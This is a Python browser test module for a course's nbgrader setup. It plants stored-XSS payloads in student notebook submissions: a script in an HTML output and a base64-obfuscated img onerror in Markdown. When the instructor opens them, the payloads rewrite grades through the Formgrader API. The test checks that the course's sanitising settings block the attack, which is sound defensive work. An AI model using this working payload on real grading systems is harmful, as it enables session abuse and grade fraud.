"""The Formgrader with a hostile submission, end to end in Chromium: a student's output or Markdown carries a
script that, when the instructor opens the submission, changes grades through the Formgrader's API with the
instructor's session (its own to full marks, a classmate's to 0).

One run (``make release``, ``make grade`` in the sandbox, the Formgrader of a Jupyter server on 127.0.0.1
over the course folder, with the course's nbgrader_config.py, opened in Chromium as the instructor):

1. the attack is real: with the course's hardening switched off (nbgrader's own settings), opening the
   submissions runs the scripts and the grades change;
2. the Formgrader alone holds: the same autograded notebooks (scripts and all), served with the course's
   settings, change nothing;
3. grading holds: graded again with the course's settings, the autograded notebooks hold no script, and
   opening them changes nothing.
"""

from __future__ import annotations

import base64
import json
import shutil
import time
import urllib.request
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell

from grading.inert import INERT_MARK
from tests.grading.corpus import NB02, WRONG_02
from tests.helpers.course import course_folder, make, released, solution_answers
from tests.helpers.jupyter import browser, find_chromium, jupyterlab, lab_command, screenshots
from tests.helpers.notebooks import ASSIGNMENT
from tests.helpers.submissions import answered

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(
        shutil.which("bwrap") is None,
        reason="needs bubblewrap (Debian `bubblewrap`; .ci/run installs it)",
    ),
]

#: What the hostile page does with the instructor's session: every grade of notebook 02 set through the
#: Formgrader's own API, the attackers' to full marks and everyone else's to 0; then it marks the page.
ATTACK = """(async () => {
  const xsrf = (document.cookie.match(/\\b_xsrf=([^;]*)/) || [])[1];
  const base = location.pathname.split('/formgrader/')[0];
  const api = base + '/formgrader/api/';
  const nbs = await (await fetch(api + 'submitted_notebooks/multiple_sequences/02_models_expect_a_batch')).json();
  for (const nb of nbs) {
    const grades = await (await fetch(api + 'grades?submission_id=' + nb.id)).json();
    for (const g of grades) {
      await fetch(api + 'grade/' + g.id, {method: 'PUT',
        headers: {'X-XSRFToken': xsrf, 'Content-Type': 'application/json'},
        body: JSON.stringify({manual_score: nb.student.startsWith('mallory') ? g.max_score : 0, extra_credit: 0})});
    }
  }
  document.documentElement.setAttribute('data-pwned', 'grades changed');
})();"""
#: The course's hardening switched off: nbgrader's own settings for outputs and pages.
NBGRADER_DEFAULTS = """
# test_formgrader.py: the hardening of grading/inert.py switched off (nbgrader's own settings)
c.Autograde.autograde_preprocessors = [p for p in c.Autograde.autograde_preprocessors if p is not InertOutputs]
c.HTMLExporter.preprocessors = []
c.HTMLExporter.sanitize_html = False
c.HTMLExporter.filters = {}
"""
ATTACKERS = ("mallory-script", "mallory-markdown")
#: How long a submission's page may take to settle (no request for 0.5 s), and the seconds waited after it
#: for a script that would still mark the page.
SETTLE_MS, GRACE = 15_000, 3.0


def _submissions(course: Path) -> dict[str, nbformat.NotebookNode]:
    release, answers = released(course)[NB02], solution_answers(course)[NB02]
    script = new_code_cell(
        f"from IPython.display import HTML, display\ndisplay(HTML({'<script>' + ATTACK + '</script>'!r}))"
    )
    encoded = base64.b64encode(ATTACK.encode()).decode()
    markdown = new_markdown_cell(f"My notes. <img src=x onerror=\"eval(atob('{encoded}'))\">")
    wrong = answered(release, answers, replace=WRONG_02)
    first, second = nbformat.from_dict(wrong), nbformat.from_dict(wrong)
    first.cells.append(script)
    second.cells.insert(2, markdown)
    return {
        "mallory-script": first,
        "mallory-markdown": second,
        "victim": answered(release, answers),
    }


def _grades(course: Path) -> dict[str, dict[str, object]]:
    """{student: {grade id: (auto score, manual score)}} of notebook 02."""
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        return {
            nb.student.id: {g.name: (g.auto_score, g.manual_score) for g in nb.grades}
            for nb in gb.notebook_submissions(NB02[: -len(".ipynb")], ASSIGNMENT)
        }


def _reset_manual_grades(course: Path) -> None:
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        for nb in gb.notebook_submissions(NB02[: -len(".ipynb")], ASSIGNMENT):
            for grade in nb.grades:
                grade.manual_score = None
                grade.extra_credit = None
        gb.db.commit()


def _mark_once_settled(page) -> tuple[str | None, float]:
    """The page's mark once its requests have settled, and :data:`GRACE` seconds more; and how long after
    they settled the mark was seen (0 when it was already there). The same wait in every phase: in phase 1,
    where the attack runs, the test asserts that the mark came well inside the grace (a fixed 15 s per page
    cost a minute of this module's run)."""
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    try:
        page.wait_for_load_state("networkidle", timeout=SETTLE_MS)
    except PlaywrightTimeout:
        pass  # a page that keeps polling: the grace below still applies
    settled = time.monotonic()
    while True:
        marked = page.evaluate("document.documentElement.getAttribute('data-pwned')")
        if marked is not None or time.monotonic() >= settled + GRACE:
            return marked, time.monotonic() - settled
        page.wait_for_timeout(250)


def _open_each_submission(course: Path, home: Path, profile: Path, shots: Path, phase: str) -> dict:
    """Start the Formgrader over ``course``, open every attacker's submission as the instructor; what ran."""
    seen: dict = {"marked": {}, "late": {}, "dialogs": []}
    with jupyterlab(home, lab_command(course), course) as lab:
        request = urllib.request.Request(
            f"{lab.base}/formgrader/api/submitted_notebooks/{ASSIGNMENT}/{NB02[: -len('.ipynb')]}",
            headers={"Authorization": f"token {lab.token}"},
        )
        with urllib.request.urlopen(request, timeout=60) as reply:
            ids = {nb["student"]: nb["id"] for nb in json.loads(reply.read())}
        with browser(
            find_chromium(), profile, lab.base + "/", shots, viewport=(1280, 900)
        ) as session:
            page = session.page
            page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
            page.goto(
                lab.url("formgrader/manage_assignments")
            )  # the instructor, logged in by token
            for student in ATTACKERS:
                page.goto(f"{lab.base}/formgrader/submissions/{ids[student]}/")
                seen["marked"][student], seen["late"][student] = _mark_once_settled(page)
                page.screenshot(path=str(shots / f"{phase}-{student}.png"))
        seen["foreign"] = list(session.foreign)
    return seen


@pytest.fixture(scope="module")
def formgrader_runs(tmp_path_factory):
    base = tmp_path_factory.mktemp("formgrader")
    course = course_folder(base / "course")
    with open(
        course / "nbgrader_config.py", "a"
    ) as settings:  # nothing here loops; a loaded machine is slow
        settings.write("\nc.GradingExecute.timeout = 240\n")
    hardened = (course / "nbgrader_config.py").read_text()
    shots = screenshots("formgrader")
    runs: dict = {"codes": {"release": make(course, "release", log="release.log")}}
    for student, nb in _submissions(course).items():
        folder = course / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / NB02)
    # 1. nbgrader's own settings: the attack as it works today
    (course / "nbgrader_config.py").write_text(hardened + NBGRADER_DEFAULTS)
    runs["codes"]["grade (nbgrader's settings)"] = make(
        course, "grade", "JOBS=2", log="grade-1.log"
    )
    runs["scripts kept"] = _scripts_in_autograded(course)
    runs["before"] = _grades(course)
    runs["today"] = _open_each_submission(course, base / "home1", base / "p1", shots, "1-today")
    runs["after today"] = _grades(course)
    # 2. the course's settings in the Formgrader, on the same autograded notebooks
    (course / "nbgrader_config.py").write_text(hardened)
    _reset_manual_grades(course)
    runs["formgrader"] = _open_each_submission(
        course, base / "home2", base / "p2", shots, "2-formgrader"
    )
    runs["after formgrader"] = _grades(course)
    # 3. graded again with the course's settings
    runs["codes"]["grade (course settings)"] = make(course, "grade", "JOBS=2", log="grade-2.log")
    runs["scripts left"] = _scripts_in_autograded(course)
    runs["graded"] = _open_each_submission(course, base / "home3", base / "p3", shots, "3-graded")
    runs["after graded"] = _grades(course)
    runs["logs"] = {p.name: p.read_text()[-2000:] for p in course.glob("*.log")}
    return runs


def _scripts_in_autograded(course: Path) -> dict[str, bool]:
    """Whether each attacker's autograded notebook still holds its script where a page would run it: a
    ``<script>`` in an HTML output, or ``onerror=`` in a Markdown cell not shown as text."""
    found = {}
    for student in ATTACKERS:
        nb = nbformat.read(course / "autograded" / student / ASSIGNMENT / NB02, as_version=4)
        outputs = [
            str(o.get("data", {}).get("text/html", ""))
            for c in nb.cells
            for o in c.get("outputs", [])
        ]
        markdown = [
            c.source
            for c in nb.cells
            if c.cell_type == "markdown" and not c.metadata.get(INERT_MARK)
        ]
        found[student] = any("<script" in o for o in outputs) or any(
            "onerror=" in m for m in markdown
        )
    return found


def test_grading_succeeds(formgrader_runs):
    assert set(formgrader_runs["codes"].values()) == {0}, formgrader_runs["logs"]


def test_the_attack_is_real_with_nbgraders_own_settings(formgrader_runs):
    today = formgrader_runs["today"]
    assert all(formgrader_runs["scripts kept"].values()), formgrader_runs["scripts kept"]
    assert set(today["marked"].values()) == {"grades changed"}, today
    # the wait of every phase is long enough: the attack marked its page well inside the grace
    assert max(today["late"].values()) <= GRACE / 3, today
    after = formgrader_runs["after today"]
    assert {manual for _, manual in after["victim"].values()} == {0}
    assert all(manual == 1 for student in ATTACKERS for _, manual in after[student].values())


def test_the_formgrader_with_the_course_settings_runs_nothing_a_submission_carries(formgrader_runs):
    seen = formgrader_runs["formgrader"]
    assert set(seen["marked"].values()) == {None} and not seen["dialogs"], seen
    assert formgrader_runs["after formgrader"] == _no_manual(formgrader_runs["before"])


def test_graded_with_the_course_settings_no_script_is_left_to_run(formgrader_runs):
    assert not any(formgrader_runs["scripts left"].values()), formgrader_runs["scripts left"]
    seen = formgrader_runs["graded"]
    assert set(seen["marked"].values()) == {None} and not seen["dialogs"], seen
    assert formgrader_runs["after graded"] == _no_manual(formgrader_runs["before"])
    assert formgrader_runs["after graded"]["victim"] == {
        "batch_dimension_test": (1.0, None),
        "seed_logits_test": (1.0, None),
    }


def _no_manual(grades: dict) -> dict:
    return {s: {g: (auto, None) for g, (auto, _) in row.items()} for s, row in grades.items()}
